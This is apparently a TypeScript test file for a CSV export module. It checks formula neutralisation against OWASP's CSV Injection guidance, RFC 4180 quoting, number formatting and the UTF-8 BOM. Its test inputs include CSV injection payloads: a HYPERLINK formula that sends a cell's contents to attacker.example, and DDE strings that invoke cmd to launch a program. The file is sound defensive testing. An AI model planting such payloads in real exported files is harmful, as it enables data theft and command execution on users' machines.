/**
 * The one CSV writer (shared/csv-writer.ts) against the OWASP "CSV Injection" page
 * (owasp.org/www-community/attacks/CSV_Injection): cells beginning with = + - @ tab (0x09) or
 * carriage return (0x0D) are prefixed with a single quote; quoting as RFC 4180 §2 (fields with
 * comma, double quote, CR or LF in double quotes, inner quotes doubled, records end in CRLF); the
 * UTF-8 byte-order mark U+FEFF (Unicode Standard §23.8) first. Expected strings are written out by
 * hand from those documents, not computed.
 */
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvRecord, formatCsvNumber, neutraliseCsvText, writeCsv } from '../../shared/csv-writer';

describe('neutralising formula cells (OWASP CSV Injection)', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', `'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', "'\r=1+2"],
  ])('%j is written as %j', (input, expected) => {
    expect(neutraliseCsvText(input)).toBe(expected);
  });

  it('leaves ordinary text alone (common practice, no source)', () => {
    for (const t of ['Cutter change', 'RING17', "it's fine", '', '0+500.0', 'a=b']) expect(neutraliseCsvText(t)).toBe(t);
  });

  it('quotes a neutralised cell that holds a comma, quote or line break (RFC 4180 §2.6–2.7)', () => {
    expect(csvRecord(['=HYPERLINK("x","y")'])).toBe(`"'=HYPERLINK(""x"",""y"")"\r\n`);
    expect(csvRecord(['\r=1+2'])).toBe(`"'\r=1+2"\r\n`);
    expect(csvRecord(['-1, then more'])).toBe(`"'-1, then more"\r\n`);
  });

  it('never touches numbers: a negative number stays a number', () => {
    expect(csvRecord([-12.5, -3, 0], [{ header: 'a' }, { header: 'b', decimals: 2 }, { header: 'c', decimals: 1 }])).toBe(
      '-12.5,-3.00,0.0\r\n',
    );
  });
});

describe('numbers as the screen shows them', () => {
  it('rounds to the column decimals (hand-rounded: 52.17391… → 52.2, 3.97887… → 3.979, 11 → 11.00)', () => {
    expect(formatCsvNumber(52.173913, 1)).toBe('52.2');
    expect(formatCsvNumber(3.978874, 3)).toBe('3.979');
    expect(formatCsvNumber(11, 2)).toBe('11.00');
  });
  it('writes a number in full when the column has no decimals, a rounded -0 as 0, and nothing for NaN', () => {
    expect(formatCsvNumber(2451.5)).toBe('2451.5');
    expect(formatCsvNumber(-0.004, 2)).toBe('0.00');
    expect(formatCsvNumber(Number.NaN, 2)).toBe('');
  });
});

describe('the whole file', () => {
  it('starts with the UTF-8 BOM, then the header, then CRLF records; null is an empty cell', () => {
    const text = writeCsv(
      ['cause', { header: 'excavated_m3', decimals: 1 }, 'note'],
      [
        ['Survey', 502.6548, null],
        ['@Other', 10, '=1+2'],
      ],
    );
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(CSV_BOM).toBe('\uFEFF');
    // UTF-8 encoding of U+FEFF is EF BB BF (Unicode Standard §23.8).
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toBe("\uFEFFcause,excavated_m3,note\r\nSurvey,502.7,\r\n'@Other,10.0,'=1+2\r\n");
  });
  it('neutralises a header too (a user-named shift or ISO week column)', () => {
    expect(writeCsv(['cause', '=Night'], [])).toBe("\uFEFFcause,'=Night\r\n");
  });
});
